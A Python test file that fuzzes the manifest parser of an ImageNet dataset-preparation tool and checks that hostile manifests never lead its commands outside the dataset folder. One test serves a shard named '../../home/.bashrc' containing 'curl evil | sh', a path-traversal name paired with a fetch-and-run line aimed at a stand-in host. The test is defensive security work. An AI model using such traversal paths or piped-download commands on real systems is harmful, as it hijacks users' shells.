"""Hostile manifests, for each verb that reads one."""

from __future__ import annotations

import itertools
import json
import shutil
from pathlib import Path
from typing import Any

import hypothesis.strategies as st
import pytest
from hypothesis import given

from imagenet_prep.core.errors import ManifestError
from imagenet_prep.dataset import manifest, schema
from tests.hostile.readers import READ
from tests.kit.arena import Arena
from tests.kit.hostile import manifests
from tests.kit.http_server import serve
from tests.kit.lengths import long_except

# The arguments of each verb: the hostile dataset is in `set`, a valid one in `sound`.
VERBS: dict[str, tuple[str, ...]] = {
    "verify": ("verify", "set", "--workers", "1"),
    "verify decode": ("verify", "set", "--level", "decode", "--workers", "1", "--json"),
    "verify if changed": ("verify", "set", "--level", "manifest", "--if-changed"),
    "replicate from": ("replicate", "set", "--to", "copy", "--connections", "2"),
    "replicate onto": ("replicate", "sound", "--to", "set", "--connections", "2"),
    "replicate check": ("replicate", "set", "--to", "sound", "--check"),
    "replicate part": ("replicate", "set", "--to", "p", "--mode", "partition", "--part", "0/2"),
    "adopt": ("adopt", "set", "--allow-subset", "--workers", "1"),
    "report": ("report", "set", "--workers", "1"),
    "compare": ("report", "--compare", "sound", "set", "--out", "page.html"),
    "duplicates": ("duplicates", "set", "--against", "sound", "--out", "found", "--workers", "1"),
}
# In `make test` each verb gets a different part of the manifests, and each manifest one verb.
PARTS = len(VERBS)
MANY = long_except(
    [(verb, number % PARTS) for number, verb in enumerate(VERBS)],
    [*itertools.product(VERBS, range(PARTS))],
)


def some(content: manifests.Content, part: int) -> list[tuple[str, bytes]]:
    """Returns a part of the hostile manifests, which are made from a valid one's content."""
    return list(manifests.hostile(content))[part::PARTS]


@pytest.fixture(scope="module")
def content(sound: Path) -> manifests.Content:
    return json.loads((sound / schema.MANIFEST).read_bytes())


@pytest.mark.parametrize(("verb", "part"), MANY)
def test_hostile_manifest_never_leads_out_of_its_folder(
    arena: Arena, sound: Path, content: manifests.Content, verb: str, part: int
) -> None:
    words = VERBS[verb]

    def attempt(data: bytes) -> None:
        shutil.copytree(sound, arena.given / "set")
        if "sound" in words:
            shutil.copytree(sound, arena.given / "sound")
        (arena.given / "set" / schema.MANIFEST).write_bytes(data)
        arena.run(*words)

    arena.each(some(content, part), attempt)


@pytest.mark.parametrize("part", long_except([0], range(PARTS)))
def test_reading_hostile_manifest_stays_in_its_folder(
    arena: Arena, sound: Path, content: manifests.Content, part: int
) -> None:
    def attempt(data: bytes) -> None:
        shutil.copytree(sound, arena.given / "set")
        (arena.given / "set" / schema.MANIFEST).write_bytes(data)
        arena.run("set", call=READ)

    arena.each(some(content, part), attempt)


@pytest.mark.parametrize("part", long_except([1], range(PARTS)))
def test_hostile_served_manifest_stays_in_the_cache(
    arena: Arena, sound: Path, content: manifests.Content, part: int
) -> None:
    """The server has a file for each name in the manifest."""
    files = {str(path.relative_to(sound)): path for path in sound.rglob("*") if path.is_file()}
    served = {name: path.read_bytes() for name, path in files.items()}
    hostile = {name.lstrip("/"): b"owned" for name in manifests.NAMES.values()}
    with serve({**hostile, **served}) as server:

        def attempt(data: bytes) -> None:
            server.files[f"/{schema.MANIFEST}"] = data
            arena.run(server.url, call=READ)

        arena.each(some(content, part), attempt)


def test_served_shard_never_replaces_a_users_file(
    arena: Arena, sound: Path, content: manifests.Content
) -> None:
    """Name, size and sha256 match the server's file, but the path is outside the dataset."""
    name = "../../home/.bashrc"
    data = b"curl evil | sh\n"
    stated = {"name": name, "num_bytes": len(data), "sha256": manifests.sha256(data)}
    shard = {**content["splits"]["train"]["shards"][0], **stated}
    mended = manifests.put(content, ("splits", "train", "shards"), [shard])
    served = {"home/.bashrc": data, schema.LABELS: (sound / schema.LABELS).read_bytes()}
    with serve(served) as server:
        for place in (name, f"/{name}", "../../../home/.bashrc", "/home/.bashrc"):
            server.files[place] = server.files[f"/{place}"] = data
        server.files[f"/{schema.MANIFEST}"] = manifests.render(mended)
        assert arena.run(server.url, call=READ).code == 3


_LEAVES = st.one_of(
    st.sampled_from([*manifests.NAMES.values(), *manifests.SHARD_NAMES.values()]),
    st.sampled_from([None, True, "5", -1, 0, 1.5, float("nan"), float("inf"), 2**63, 10**1000]),
    st.sampled_from([[], {}, [[[]]], {"": {}}, "\ud800"]),
    st.text(max_size=12),
)


@st.composite
def changes(draw: st.DrawFn, there: Any) -> tuple[str | int, ...]:
    """Draws a place in a manifest."""
    path: list[str | int] = []
    while isinstance(there, dict | list) and there and (not path or draw(st.booleans())):
        keys = sorted(there) if isinstance(there, dict) else range(len(there))
        path.append(draw(st.sampled_from(keys)))
        there = there[path[-1]]
    return tuple(path)


@given(data=st.data())
def test_valid_manifest_names_only_files_of_a_dataset(
    content: manifests.Content, data: st.DataObject
) -> None:
    mutated = content
    for _ in range(data.draw(st.integers(1, 3))):
        mutated = manifests.put(mutated, data.draw(changes(mutated)), data.draw(_LEAVES))
    try:
        found = manifest.loads(manifests.render(mutated), "dataset.json")
    except ManifestError as error:
        assert str(error).isprintable()
        return
    assert set(found.splits) <= set(schema.SPLITS)
    for split, part in found.splits.items():
        for number, shard in enumerate(part.shards):
            assert shard.name == schema.shard_name(split, number, len(part.shards))
            assert 0 <= 16 * shard.examples <= shard.num_bytes < 2**63
    for file in found.files:
        assert schema.require_relative_name(file.name) == file.name
        assert "/" not in file.name
        assert file.name not in (schema.MANIFEST, schema.PLACEMENT, schema.WORK, schema.REPORT)
        assert not schema.looks_like_shard(file.name)
